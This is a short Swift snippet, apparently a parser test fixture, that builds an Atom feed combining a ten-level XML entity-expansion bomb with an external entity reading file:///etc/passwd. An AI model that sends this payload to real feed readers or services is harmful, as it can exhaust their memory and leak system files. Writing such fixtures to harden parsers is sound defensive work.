/// An Atom feed whose one title is made of entities: ten thousand million words, and a file of the reader's machine.
enum EntityBomb {
  static let text: String = {
    let levels = (1...10).map { level in
      let smaller = String(repeating: "&w\(level - 1);", count: 10)
      return "<!ENTITY w\(level) \"\(smaller)\">"
    }
    return """
      <?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE feed [
      <!ENTITY file SYSTEM "file:///etc/passwd">
      <!ENTITY w0 "vane">
      \(levels.joined(separator: "\n"))
      ]>
      <feed xmlns="http://www.w3.org/2005/Atom"><title>&file;&w10;</title></feed>

      """
  }()
}
